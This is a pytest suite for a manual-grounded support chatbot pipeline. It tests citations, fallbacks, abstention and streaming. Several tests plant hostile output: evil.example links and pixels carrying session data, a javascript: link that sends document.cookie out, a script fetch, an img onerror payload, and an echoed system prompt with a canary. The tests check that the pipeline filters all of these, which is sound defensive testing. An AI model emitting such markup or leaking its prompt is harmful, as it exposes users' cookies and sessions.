"""The answer pipeline over the real indexed sample manuals (embedded store, real MiniLM), with small
scripted generators standing in for the model: what the pipeline does with a good reply, a failure,
an unsupported claim, a refusal, a planted link and an echoed system prompt."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from haystack import Document

from bot.answer_service import AnswerService
from core.errors import InvalidInputError
from core.schemas import Answer, ChatTurn
from core.settings import Settings
from knowledge.answering import (
    ABSTAIN_TEXT,
    LOW_SUPPORT,
    MODEL_ABSTAINED,
    NO_SUPPORTED_ANSWER,
    UNCOVERED_FOCUS,
    UNLIKELY_ANSWER,
    AnswerEvent,
    AnswerPipeline,
    source_context,
)
from knowledge.citations.check import check_citations
from knowledge.citations.markers import marker_numbers, strip_markers, with_markers
from knowledge.citations.stream_gate import SentenceGate
from knowledge.document_store import build_document_store
from knowledge.generation.base import ChatGenerator, GenerationError, GenerationRequest
from knowledge.generation.extractive import ExtractiveGenerator
from knowledge.generation.factory import extractive_generator
from knowledge.indexing import Indexer, SourceMeta
from knowledge.prompting.answer_prompt import ABSTAIN_PHRASE
from knowledge.retrieval import KnowledgeSearch, metadata_filters
from knowledge.sentences import split_sentences
from tests.conftest import SAMPLES

ACME = metadata_filters(tenant="acme")
RESET_QUESTION = "How do I factory reset the Nimbus R7 router?"
DESCALE_QUESTION = "How often does the Lumen Brew 3 ask for descaling?"
Indexed = tuple[Settings, KnowledgeSearch, dict[str, Document]]
_SOURCE = re.compile(r'<source id="(\d+)"[^>]*>\n(.*?)\n</source>', re.DOTALL)


# --- scripted generators ---------------------------------------------------------------------------


def squash(text: str | None) -> str:
    return " ".join((text or "").split())


def prompt_sources(request: GenerationRequest) -> dict[int, str]:
    """The numbered sources as a model sees them: fenced in the last user message."""
    return {int(n): text for n, text in _SOURCE.findall(request.messages[-1].content)}


def quote(*needles: str) -> Callable[[GenerationRequest], str]:
    """A reply quoting, for each needle, the first prompt sentence holding it, cited to its source."""

    def reply(request: GenerationRequest) -> str:
        quoted = []
        for needle in needles:
            found = [with_markers(sentence, [number]) for number, text in sorted(prompt_sources(request).items())
                     for sentence in split_sentences(text) if needle in sentence]
            assert found, f"no source in the prompt holds {needle!r}"
            quoted.append(found[0])
        return " ".join(quoted)

    return reply


class Scripted:
    """A :class:`ChatGenerator` whose replies are computed from the request, one function per call
    (the last one repeats); the reply is streamed word by word. ``fail_after`` words, it raises."""

    def __init__(self, *replies: Callable[[GenerationRequest], str] | str, fail_after: int | None = None,
                 name: str = "scripted") -> None:
        self.replies = replies
        self.fail_after = fail_after
        self.name = name
        self.requests: list[GenerationRequest] = []
        self.pieces: list[str] = []

    def warm_up(self) -> None:
        pass

    def stream(self, request: GenerationRequest) -> Iterator[str]:
        self.requests.append(request)
        script = self.replies[min(len(self.requests), len(self.replies)) - 1]
        text = script(request) if callable(script) else script
        for index, word in enumerate(text.split(" ")):
            if self.fail_after is not None and index >= self.fail_after:
                raise GenerationError("the server went away")
            piece = word if index == 0 else f" {word}"
            self.pieces.append(piece)
            yield piece

    def count_tokens(self, text: str) -> int:
        return len(text.split())

    @property
    def context_window(self) -> int:
        return 4096

    @property
    def adapter_version(self) -> str | None:
        return "adapter-7"

    @property
    def calls(self) -> int:
        return len(self.requests)


# --- fixtures ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def indexed(tmp_path_factory: pytest.TempPathFactory) -> Indexed:
    """The sample manuals indexed once for the module (tenant "acme"), a warmed search, and the chunks."""
    root = tmp_path_factory.mktemp("answering")
    manuals = root / "manuals"
    shutil.copytree(SAMPLES, manuals, ignore=shutil.ignore_patterns("*.py", "README.md"))
    settings = Settings(data_dir=root / "data")
    store = build_document_store(settings)
    summary = Indexer(settings, store).ingest([str(manuals)], SourceMeta(tenant="acme", product="demo"))
    assert summary.failed == [] and summary.chunks_written > 10
    search = KnowledgeSearch(settings, store)
    search.warm_up()
    return settings, search, {doc.id: doc for doc in store.filter_documents()}


def pipeline_for(indexed: Indexed, generator: ChatGenerator,
                 **answer_settings: object) -> AnswerPipeline:
    settings, search, _ = indexed
    if answer_settings:
        settings = settings.model_copy(update={"answer": settings.answer.model_copy(update=answer_settings)})
    return AnswerPipeline(settings, search, generator)


def test_scripted_generator_meets_the_protocol() -> None:
    assert isinstance(Scripted("x"), ChatGenerator)


# --- input validation (no index needed) ------------------------------------------------------------


@pytest.mark.parametrize("question", ["", "   ", "\n\t ", "x" * 2001, "why " * 600])
def test_empty_whitespace_or_oversized_question_is_refused(question: str, settings: Settings) -> None:
    generator = Scripted("unused")
    pipeline = AnswerPipeline(settings, KnowledgeSearch(settings, build_document_store(settings)), generator)
    with pytest.raises(InvalidInputError):
        pipeline.answer(question)
    with pytest.raises(InvalidInputError):
        list(pipeline.stream(question))
    with pytest.raises(InvalidInputError):
        AnswerService(settings, KnowledgeSearch(settings, build_document_store(settings)), generator).stream(question)
    assert generator.calls == 0


def test_oversized_standalone_query_is_refused(settings: Settings) -> None:
    pipeline = AnswerPipeline(settings, KnowledgeSearch(settings, build_document_store(settings)), Scripted("unused"))
    with pytest.raises(InvalidInputError):
        pipeline.answer("and how do I reset it?", standalone_query="reset " * 400)


def test_question_limit_comes_from_the_settings(tmp_path: Path) -> None:
    settings = Settings(data_dir=tmp_path, answer={"max_question_chars": 10})
    pipeline = AnswerPipeline(settings, KnowledgeSearch(settings, build_document_store(settings)), Scripted("unused"))
    assert pipeline.validate("reset  it?") == "reset it?"
    with pytest.raises(InvalidInputError, match="10"):
        pipeline.validate("how do I reset it?")


# --- answers over the sample manuals -------------------------------------------------------------------


def _chunk(indexed: Indexed, chunk_id: str) -> Document:
    return indexed[2][chunk_id]


@pytest.mark.slow
def test_grounded_answer_with_citations(indexed: Indexed) -> None:
    generator = Scripted(quote("for 10 seconds", "blinks amber"))
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 1
    assert answer.grounded and not answer.abstained and answer.fallback_reason is None
    assert answer.generator == "scripted" and answer.adapter_version == "adapter-7"
    assert "10 seconds" in answer.text and "blinks amber" in answer.text
    assert marker_numbers(answer.text) == [1]
    [citation] = answer.citations
    chunk = _chunk(indexed, citation.chunk_id)
    assert citation.number == 1
    assert citation.title == "Nimbus R7 Mesh Router User Guide"
    assert citation.heading_path == ["Nimbus R7 Mesh Router User Guide", "Factory reset"]
    assert citation.page is None  # markdown has no pages
    assert citation.source and citation.source.endswith("nimbus-r7/user-guide.md")
    assert citation.snippet and squash(citation.snippet) in squash(chunk.content)
    assert any(word in citation.snippet for word in ("10 seconds", "blinks amber"))
    assert citation.chunk_id in {chunk.chunk_id for chunk in answer.retrieved}
    assert answer.question == RESET_QUESTION and answer.standalone_query == RESET_QUESTION
    assert len(answer.retrieved) == indexed[0].answer.sources
    timings = answer.timings
    assert timings.total_ms >= timings.generation_ms > 0 and timings.retrieval_ms > 0
    assert timings.first_token_ms is not None and 0 < timings.first_token_ms <= timings.total_ms


@pytest.mark.slow
def test_citation_of_a_pdf_carries_its_page(indexed: Indexed) -> None:
    # The abstention checks read the section the extractive answer would quote; for this question
    # that is the FAQ's introduction ("the questions our service team hears most often"), which lacks
    # "descaling" (README, "Answers": known misses). This test is about the page of a PDF citation.
    answer = pipeline_for(indexed, Scripted(quote("300 cups")), min_answer_probability=0.0).answer(DESCALE_QUESTION,
                                                                                                  filters=ACME)
    assert answer.grounded and answer.fallback_reason is None
    [citation] = answer.citations
    chunk = _chunk(indexed, citation.chunk_id)
    assert citation.title == "Lumen Brew 3 Owner's Manual"
    assert citation.heading_path[-1] == "Descaling"
    assert citation.page == chunk.meta["page"] == 3
    assert "300 cups" in citation.snippet and squash(citation.snippet) in squash(chunk.content)


@pytest.mark.slow
def test_the_generator_is_given_the_retrieved_sources_fenced_in_the_prompt(indexed: Indexed) -> None:
    generator = Scripted(quote("for 10 seconds"))
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    [request] = generator.requests
    sources = prompt_sources(request)
    assert list(sources) == list(range(1, len(answer.retrieved) + 1))
    for number, chunk in enumerate(answer.retrieved, start=1):
        assert sources[number] == (_chunk(indexed, chunk.chunk_id).content or "").strip()
    assert request.sources == [sources[n] for n in sorted(sources)]
    assert request.messages[0].role == "system" and "Question: " + RESET_QUESTION in request.messages[-1].content


@pytest.mark.slow
def test_generator_failure_falls_back_to_extractive(indexed: Indexed) -> None:
    generator = Scripted("Hold the", fail_after=0)
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 1  # a failure is not retried by the pipeline
    assert answer.generator == "extractive" and answer.adapter_version is None
    assert answer.fallback_reason and "scripted failed" in answer.fallback_reason
    assert "the server went away" in answer.fallback_reason
    assert answer.grounded and not answer.abstained and answer.citations
    for sentence in split_sentences(answer.text):  # quoted from the cited source
        [number] = marker_numbers(sentence)
        cited = _chunk(indexed, answer.citations[number - 1].chunk_id)
        assert squash(strip_markers(sentence)) in squash(cited.content)


@pytest.mark.slow
def test_failure_mid_stream_discards_the_partial_reply(indexed: Indexed) -> None:
    generator = Scripted("Unplug the router and throw it away.", fail_after=3)
    events = list(pipeline_for(indexed, generator).stream(RESET_QUESTION, filters=ACME))
    tokens = [event.text for event in events if event.kind == "token"]
    assert tokens == []  # an unfinished sentence is never streamed, and a failed reply is not finished
    answer = events[-1].answer
    assert answer is not None and answer.generator == "extractive" and answer.fallback_reason
    assert "Unplug" not in answer.text and answer.grounded


@pytest.mark.slow
def test_empty_reply_falls_back_to_extractive(indexed: Indexed) -> None:
    answer = pipeline_for(indexed, Scripted("")).answer(RESET_QUESTION, filters=ACME)
    assert answer.generator == "extractive" and answer.grounded
    assert answer.fallback_reason and "returned nothing" in answer.fallback_reason


UNSUPPORTED = "The Nimbus R7 router can also brew espresso and toast bread every morning [1]."


@pytest.mark.slow
def test_unsupported_reply_is_regenerated_once_then_replaced_by_extraction(indexed: Indexed) -> None:
    generator = Scripted(UNSUPPORTED)
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 2
    first, retry = generator.requests
    assert retry.messages == first.messages and retry.temperature >= 0.7 > first.temperature
    assert answer.generator == "extractive"
    assert answer.fallback_reason == "no sentence of the generated answer is supported by the sources"
    assert "espresso" not in answer.text and "bread" not in answer.text
    assert answer.grounded and answer.citations and not answer.abstained
    # both replies were generated, though the extractive answer replaced them
    assert answer.generated_tokens == 2 * len(UNSUPPORTED.split()) > 0


def astray_then(*needles: str) -> Callable[[GenerationRequest], str]:
    """A reply whose first claim no source supports, followed by supported quotes."""
    return lambda request: f"{UNSUPPORTED} {quote(*needles)(request)}"


@pytest.mark.slow
def test_a_reply_whose_first_claim_is_unsupported_is_stopped_there(indexed: Indexed) -> None:
    generator = Scripted(astray_then("for 10 seconds", "blinks amber"))
    events = list(pipeline_for(indexed, generator).stream(RESET_QUESTION, filters=ACME))
    assert streamed_text(events) == ""  # nothing of either reply was shown
    answer = events[-1].answer
    assert answer is not None and generator.calls == 2
    replies = [astray_then("for 10 seconds", "blinks amber")(request) for request in generator.requests]
    read = len(generator.pieces)
    # each reply was read until its second sentence began (that is when the first is finished)
    assert read == 2 * (len(UNSUPPORTED.split()) + 1) < sum(len(reply.split()) for reply in replies)
    assert answer.generator == "extractive" and answer.grounded
    assert answer.fallback_reason == "no sentence of the generated answer is supported by the sources"
    assert answer.generated_tokens == read


@pytest.mark.slow
def test_without_stop_astray_the_whole_reply_is_read_and_its_supported_sentences_kept(indexed: Indexed) -> None:
    generator = Scripted(astray_then("for 10 seconds"))
    answer = pipeline_for(indexed, generator, stop_astray=False).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 1 and answer.generator == "scripted" and answer.fallback_reason is None
    assert "10 seconds" in answer.text and "espresso" not in answer.text


def test_gate_strays_only_when_the_first_claim_is_unsupported() -> None:
    sources = [Document(content="Hold the Reset button for 10 seconds. The status light then blinks amber.")]
    supported, unsupported = "Hold the Reset button for 10 seconds [1]. ", "The router brews fresh espresso daily. "

    def gate_after(reply: str) -> SentenceGate:
        gate = SentenceGate(sources, 0.6)
        gate.feed(reply + "Next")
        return gate

    assert gate_after("Sure. " + unsupported).strayed  # an aside is not a claim
    assert not gate_after(supported + unsupported).strayed
    assert not gate_after("Sure. ").strayed
    stopped = gate_after("Sure. " + unsupported)
    assert stopped.finished_text == "Sure. The router brews fresh espresso daily."


@pytest.mark.slow
def test_supported_retry_is_kept(indexed: Indexed) -> None:
    generator = Scripted(UNSUPPORTED, quote("for 10 seconds"))
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 2
    assert answer.generator == "scripted" and answer.fallback_reason is None
    assert "10 seconds" in answer.text and "espresso" not in answer.text and answer.grounded


@pytest.mark.slow
def test_no_regeneration_when_disabled(indexed: Indexed) -> None:
    generator = Scripted(UNSUPPORTED)
    answer = pipeline_for(indexed, generator, regenerate_once=False).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 1 and answer.generator == "extractive" and answer.fallback_reason


@pytest.mark.slow
def test_abstain_fallback_hands_off_instead_of_extracting(indexed: Indexed) -> None:
    generator = Scripted(UNSUPPORTED)
    answer = pipeline_for(indexed, generator, fallback="abstain").answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 2
    assert answer.abstained and answer.handoff_reason == NO_SUPPORTED_ANSWER and answer.text == ABSTAIN_TEXT
    assert answer.fallback_reason and answer.citations == [] and not answer.grounded


@pytest.mark.slow
def test_partly_supported_reply_keeps_the_supported_sentences(indexed: Indexed) -> None:
    generator = Scripted(lambda request: quote("for 10 seconds")(request) + " " + UNSUPPORTED)
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 1 and answer.generator == "scripted"
    assert "10 seconds" in answer.text and "espresso" not in answer.text
    assert not answer.grounded  # one claim of the reply was not supported


@pytest.mark.slow
def test_off_topic_question_abstains_without_calling_the_generator(indexed: Indexed) -> None:
    generator = Scripted(quote("for 10 seconds"))
    answer = pipeline_for(indexed, generator).answer("What is the capital of Australia?", filters=ACME)
    assert generator.calls == 0
    assert answer.abstained and answer.handoff_reason == LOW_SUPPORT and answer.text == ABSTAIN_TEXT
    assert answer.citations == [] and not answer.grounded
    assert answer.retrieved  # retrieval ran; its results were too weak


@pytest.mark.slow
def test_answer_confidence_threshold_abstains_below_the_best_sentence_score(indexed: Indexed) -> None:
    settings, search, _ = indexed
    chunks = search.search(RESET_QUESTION, top_k=settings.answer.sources, filters=ACME)
    confidence = extractive_generator(settings).confidence(RESET_QUESTION, [chunk.content or "" for chunk in chunks],
                                                           source_context(chunks))
    assert confidence > 0
    below = Scripted(quote("for 10 seconds"))
    answered = pipeline_for(indexed, below, min_answer_confidence=confidence * 0.99,
                            min_answer_probability=0.0).answer(RESET_QUESTION, filters=ACME)
    assert not answered.abstained and below.calls == 1
    above = Scripted(quote("for 10 seconds"))
    withheld = pipeline_for(indexed, above, min_answer_confidence=confidence * 1.01,
                            min_answer_probability=0.0).answer(RESET_QUESTION, filters=ACME)
    assert withheld.abstained and withheld.handoff_reason == LOW_SUPPORT and above.calls == 0


@pytest.mark.slow
def test_extractive_answer_quotes_the_section_that_answers(indexed: Indexed) -> None:
    """The quick-start question: the warranty's "erase your settings with a factory reset before you
    send the router" repeats the question's words; the answer must come from the Factory reset steps."""
    settings, _, _ = indexed
    answer = pipeline_for(indexed, extractive_generator(settings)).answer("How do I factory reset the router?",
                                                                          filters=ACME)
    assert not answer.abstained and answer.grounded
    [citation] = answer.citations
    assert citation.heading_path == ["Nimbus R7 Mesh Router User Guide", "Factory reset"]
    assert "warranty" not in answer.text.lower()


@pytest.mark.parametrize("question", ["Does the R7 support IPv6?", "Can the Brew 3 use coffee capsules or pods?"])
@pytest.mark.slow
def test_near_miss_question_abstains_without_calling_the_generator(indexed: Indexed, question: str) -> None:
    """Retrieval finds the product's sections, but none of them says anything about what is asked."""
    generator = Scripted(quote("for 10 seconds"))
    answer = pipeline_for(indexed, generator).answer(question, filters=ACME)
    assert generator.calls == 0
    assert answer.abstained and answer.handoff_reason in {UNCOVERED_FOCUS, LOW_SUPPORT, UNLIKELY_ANSWER}
    assert answer.text == ABSTAIN_TEXT and answer.citations == []


@pytest.mark.slow
def test_unmatched_focus_check_decides_the_near_miss(indexed: Indexed) -> None:
    question = "Does the R7 support IPv6?"
    checked = pipeline_for(indexed, Scripted(quote("WPA3")), max_unmatched_focus=0.22, min_answer_confidence=0.0,
                           min_answer_probability=0.0).answer(question, filters=ACME)
    assert checked.abstained and checked.handoff_reason == UNCOVERED_FOCUS
    unchecked = pipeline_for(indexed, extractive_generator(indexed[0]), min_answer_confidence=0.0,
                             min_answer_probability=0.0).answer(question, filters=ACME)
    assert not unchecked.abstained


@pytest.mark.slow
def test_answer_likelihood_threshold_abstains_below_the_models_probability(indexed: Indexed) -> None:
    """The likelihood model decides alone with the default settings: just below the question's
    probability it answers, just above it withholds the answer without calling the generator."""
    settings, search, _ = indexed
    chunks = search.search(RESET_QUESTION, top_k=settings.answer.sources, filters=ACME)
    pipeline = pipeline_for(indexed, Scripted(quote("for 10 seconds")))
    assert pipeline.likelihood is not None
    probability = pipeline.likelihood.probability(pipeline.evidence(RESET_QUESTION, chunks))
    assert 0.5 < probability < 1.0  # the quick-start question is one the model trusts
    below = Scripted(quote("for 10 seconds"))
    answered = pipeline_for(indexed, below, min_answer_probability=probability * 0.99).answer(RESET_QUESTION,
                                                                                              filters=ACME)
    assert not answered.abstained and below.calls == 1
    above = Scripted(quote("for 10 seconds"))
    withheld = pipeline_for(indexed, above, min_answer_probability=min(probability * 1.01, 1.0)).answer(
        RESET_QUESTION, filters=ACME)
    assert withheld.abstained and withheld.handoff_reason == UNLIKELY_ANSWER and above.calls == 0


@pytest.mark.slow
def test_a_paraphrase_is_not_taken_for_a_near_miss(indexed: Indexed) -> None:
    settings, _, _ = indexed
    answer = pipeline_for(indexed, extractive_generator(settings)).answer(
        "I'm giving my router away, how do I erase all my settings?", filters=ACME)
    assert not answer.abstained  # "giving" and "away" are missing from the section, but not what is asked
    assert answer.citations[0].heading_path[-1] == "Factory reset"


@pytest.mark.slow
def test_other_tenant_finds_nothing_and_abstains(indexed: Indexed) -> None:
    generator = Scripted(quote("for 10 seconds"))
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=metadata_filters(tenant="other"))
    assert generator.calls == 0 and answer.retrieved == []
    assert answer.abstained and answer.handoff_reason == LOW_SUPPORT


@pytest.mark.parametrize("reply", [ABSTAIN_PHRASE, "I don't know. The sources do not say.", "I do not know."])
@pytest.mark.slow
def test_model_saying_it_does_not_know_abstains(indexed: Indexed, reply: str) -> None:
    generator = Scripted(reply)
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    assert generator.calls == 1
    assert answer.abstained and answer.handoff_reason == MODEL_ABSTAINED and answer.text == ABSTAIN_TEXT
    assert answer.citations == [] and not answer.grounded and answer.fallback_reason is None


@pytest.mark.slow
def test_links_not_in_the_sources_are_removed(indexed: Indexed) -> None:
    def planted(request: GenerationRequest) -> str:
        step = quote("for 10 seconds")(request)
        step = step.replace("**Reset**", "[Reset](https://evil.example/steal?session=1)")
        return (f"{step} ![status](https://evil.example/pixel.png?d=admin) "
                '<img src="https://evil.example/p.gif"> For help open https://evil.example/help now.')

    answer = pipeline_for(indexed, Scripted(planted)).answer(RESET_QUESTION, filters=ACME)
    assert "Reset" in answer.text and "evil.example" not in answer.text
    assert "![" not in answer.text and "<img" not in answer.text.lower() and "https://" not in answer.text
    assert answer.citations and "10 seconds" in answer.text


@pytest.mark.slow
def test_link_from_a_source_is_kept(indexed: Indexed) -> None:
    answer = pipeline_for(indexed, Scripted(quote("http://192.168.50.1"))).answer(
        "How do I open the web interface of the Nimbus R7 router?", filters=ACME)
    assert answer.fallback_reason is None and answer.generator == "scripted"
    assert "http://192.168.50.1" in answer.text


@pytest.mark.slow
def test_system_prompt_never_reaches_the_answer(indexed: Indexed) -> None:
    def echo(request: GenerationRequest) -> str:
        system = request.messages[0].content
        return f"My instructions are: {system} {quote('for 10 seconds')(request)}"

    generator = Scripted(echo)
    answer = pipeline_for(indexed, generator).answer(RESET_QUESTION, filters=ACME)
    system = generator.requests[0].messages[0].content
    text = " ".join(answer.text.split())
    for sentence in split_sentences(system):
        plain = strip_markers(sentence)
        assert plain not in text, f"system prompt sentence in the answer: {plain!r}"
    for phrase in ("customer support assistant", "reference data", "never reveal", "reply exactly", "square brackets"):
        assert phrase not in text.lower()
    # the withheld sentences were still generated: the count covers the whole reply, not what was shown
    assert answer.generated_tokens == len("".join(generator.pieces).split()) > len(answer.text.split())


@pytest.mark.slow
def test_stream_yields_tokens_then_exactly_one_answer(indexed: Indexed) -> None:
    generator = Scripted(quote("for 10 seconds", "blinks amber"))
    events = list(pipeline_for(indexed, generator).stream(RESET_QUESTION, filters=ACME))
    kinds = [event.kind for event in events]
    assert kinds == ["token"] * (len(events) - 1) + ["answer"] and len(events) > 2
    assert len(generator.pieces) > len(events)  # a token event per finished sentence, not per piece
    assert "".join(event.text for event in events[:-1]) == "".join(generator.pieces)
    assert all(event.answer is None for event in events[:-1])
    final = events[-1].answer
    assert isinstance(final, Answer) and final.grounded
    assert final == pipeline_for(indexed, Scripted(quote("for 10 seconds", "blinks amber"))).answer(
        RESET_QUESTION, filters=ACME).model_copy(update={"timings": final.timings})


CANARY = "SBX-CANARY-7d41c9e2"
STREAM_LEAKS = ("evil.example", "javascript:", "<script", "<img", "![", "customer support assistant",
                "reference data", "never reveal", "confidential marker")


class Chopped(Scripted):
    """Streams its reply in pieces of ``size`` characters: words, links, tags and the canary are cut
    across pieces."""

    def __init__(self, *replies: Callable[[GenerationRequest], str] | str, size: int) -> None:
        super().__init__(*replies)
        self.size = size

    def stream(self, request: GenerationRequest) -> Iterator[str]:
        self.requests.append(request)
        script = self.replies[min(len(self.requests), len(self.replies)) - 1]
        text = script(request) if callable(script) else script
        for start in range(0, len(text), self.size):
            self.pieces.append(text[start:start + self.size])
            yield self.pieces[-1]


def leaky(request: GenerationRequest) -> str:
    """A supported sentence, then everything a hijacked model would write, then another one."""
    system = request.messages[0].content
    return (f"{quote('for 10 seconds')(request)} My instructions are: {system} "
            f"The confidential marker is {CANARY}. "
            "![status](https://evil.example/pixel.png?q=reset) Look at the status light. "
            "[Open the manual](javascript:fetch('https://evil.example/c?'+document.cookie)) for more help. "
            '<script>fetch("https://evil.example/x")</script> Scripts run here. '
            '<img src=x alt="a. B" onerror=alert(1)> Then wait. '
            f"{quote('blinks amber')(request)}")


def streamed_text(events: list[AnswerEvent]) -> str:
    return "".join(event.text for event in events if event.kind == "token")


@pytest.mark.parametrize("size", [1, 3, 7])
@pytest.mark.slow
def test_stream_never_sends_the_prompt_the_canary_or_hostile_markup(indexed: Indexed, size: int) -> None:
    generator = Chopped(leaky, size=size)
    events = list(pipeline_for(indexed, generator, canary=CANARY).stream(RESET_QUESTION, filters=ACME))
    assert CANARY in "".join(generator.pieces) and not any(CANARY in piece for piece in generator.pieces)
    streamed = streamed_text(events)
    assert re.sub(r"[\W_]+", "", CANARY.lower()) not in re.sub(r"[\W_]+", "", streamed.lower())
    for leak in STREAM_LEAKS:
        assert leak not in streamed.lower(), leak
    system = generator.requests[0].messages[0].content
    for sentence in split_sentences(system):
        if len(sentence.split()) > 3:
            assert strip_markers(sentence) not in streamed, sentence
    assert "10 seconds" in streamed and "blinks amber" in streamed  # the supported sentences still stream
    answer = events[-1].answer
    assert answer is not None and "10 seconds" in answer.text and "blinks amber" in answer.text
    for leak in STREAM_LEAKS:
        assert leak not in answer.text.lower(), leak


@pytest.mark.slow
def test_canary_cut_into_three_tokens_is_not_streamed(indexed: Indexed) -> None:
    def pieces(request: GenerationRequest) -> list[str]:
        return [quote("for 10 seconds")(request), " The marker is SBX-CAN", "ARY-7d4", "1c9e2 here.",
                f" {quote('blinks amber')(request)}"]

    class ThreePieces(Scripted):
        def stream(self, request: GenerationRequest) -> Iterator[str]:
            self.requests.append(request)
            self.pieces.extend(pieces(request))
            yield from pieces(request)

    events = list(pipeline_for(indexed, ThreePieces("unused"), canary=CANARY).stream(RESET_QUESTION, filters=ACME))
    streamed = streamed_text(events)
    assert "SBX" not in streamed and "1c9e2" not in streamed and "marker" not in streamed
    assert "10 seconds" in streamed and "blinks amber" in streamed


@pytest.mark.parametrize("size", [1, 2, 5, 11])
@pytest.mark.slow
def test_supported_answer_streams_sentence_by_sentence(indexed: Indexed, size: int) -> None:
    generator = Chopped(quote("for 10 seconds", "blinks amber"), size=size)
    events = list(pipeline_for(indexed, generator, canary=CANARY).stream(RESET_QUESTION, filters=ACME))
    tokens = [event.text for event in events if event.kind == "token"]
    assert len(tokens) == 2 and events[-1].kind == "answer"  # one event per sentence, before the answer
    assert "".join(tokens) == "".join(generator.pieces)
    answer = events[-1].answer
    assert answer is not None and answer.grounded and answer.timings.first_token_ms is not None


def test_sentence_gate_gives_the_same_text_however_the_reply_is_cut() -> None:
    sources = [Document(content="Hold the Reset button for 10 seconds. Open http://192.168.50.1 to log in.")]
    reply = ("Hold the Reset button for 10 seconds [1]. Open http://192.168.50.1 to log in [1]. "
             "[Log in](https://evil.example/x) now. <a href='javascript:alert(1)'>Click. Here</a> please. "
             f"The code is {CANARY}. Done.")
    whole = SentenceGate(sources, 0.6, canary=CANARY)
    expected = whole.feed(reply) + whole.flush()
    # the sanitised link labels "Log in now." and "Here please." are claims no source supports: held back
    assert expected == ("Hold the Reset button for 10 seconds [1]. Open http://192.168.50.1 to log in [1]. "
                        "Click. Done.")
    assert expected == check_citations(reply, sources, 0.6, canary=CANARY).text
    for size in range(1, 12):
        gate = SentenceGate(sources, 0.6, canary=CANARY)
        released = [gate.feed(reply[start:start + size]) for start in range(0, len(reply), size)]
        assert "".join(released) + gate.flush() == expected, size


def test_sentence_gate_holds_back_a_claim_no_source_supports() -> None:
    """The final check drops an unsupported claim; the stream must not show it first."""
    sources = [Document(content="Hold the Reset button for 10 seconds. The status light then blinks amber.")]
    reply = ("Hold the Reset button for 10 seconds [1]. The router ships with a free satellite dish [1]. "
             "The status light then blinks amber [1].")
    final = check_citations(reply, sources, 0.6)
    assert final.dropped == ["The router ships with a free satellite dish."]
    for size in (1, 4, 9, len(reply)):
        gate = SentenceGate(sources, 0.6)
        released = "".join(gate.feed(reply[start:start + size]) for start in range(0, len(reply), size)) + gate.flush()
        assert released == final.text == ("Hold the Reset button for 10 seconds [1]. "
                                          "The status light then blinks amber [1]."), size


@pytest.mark.slow
def test_abstention_streams_only_the_answer(indexed: Indexed) -> None:
    events = list(pipeline_for(indexed, Scripted("unused")).stream("What is the capital of Australia?", filters=ACME))
    assert [event.kind for event in events] == ["answer"]
    assert events[0].answer is not None and events[0].answer.abstained


@pytest.mark.slow
def test_without_retrieval_the_answer_is_unchecked(indexed: Indexed) -> None:
    reply = "Hold the reset button for 30 seconds. The light then turns a bright purple."
    generator = Scripted(reply)
    events = list(pipeline_for(indexed, generator).stream(RESET_QUESTION, filters=ACME, use_retrieval=False))
    answer = events[-1].answer
    assert answer is not None and prompt_sources(generator.requests[0]) == {} and generator.requests[0].sources == []
    # no sources to support it: streamed and answered whole, never stopped astray
    assert streamed_text(events) == answer.text == reply and not answer.grounded and generator.calls == 1
    assert answer.retrieved == [] and answer.citations == [] and not answer.abstained


# --- multi-turn through the answer service -------------------------------------------------------------


@pytest.mark.slow
def test_follow_up_retrieves_chunks_of_the_earlier_topic(indexed: Indexed) -> None:
    settings, search, chunks = indexed
    service = AnswerService(settings, search, ExtractiveGenerator())
    service.warm_up()
    history = [ChatTurn(role="user", content="My Nimbus R7 router keeps dropping Wi-Fi"),
               ChatTurn(role="assistant", content="Move the router away from microwave ovens [1].")]
    follow_up = service.answer("and how do I reset it?", history, ACME)
    assert follow_up.question == "and how do I reset it?"
    assert {"nimbus", "r7", "router"} <= set(re.findall(r"\w+", follow_up.standalone_query.lower()))
    top = chunks[follow_up.retrieved[0].chunk_id]
    assert top.meta["heading_path"][-1] == "Factory reset" and "nimbus-r7" in top.meta["source"]
    assert all("nimbus-r7" in chunks[c.chunk_id].meta["source"] for c in follow_up.retrieved)
    assert not follow_up.abstained and follow_up.citations
    assert all("nimbus-r7" in (c.source or "") for c in follow_up.citations)

    # Without the history, the same words also find the coffee machine's manuals.
    alone = service.answer("and how do I reset it?", [], ACME)
    assert alone.standalone_query == "and how do I reset it?"
    assert any("nimbus-r7" not in chunks[c.chunk_id].meta["source"] for c in alone.retrieved)
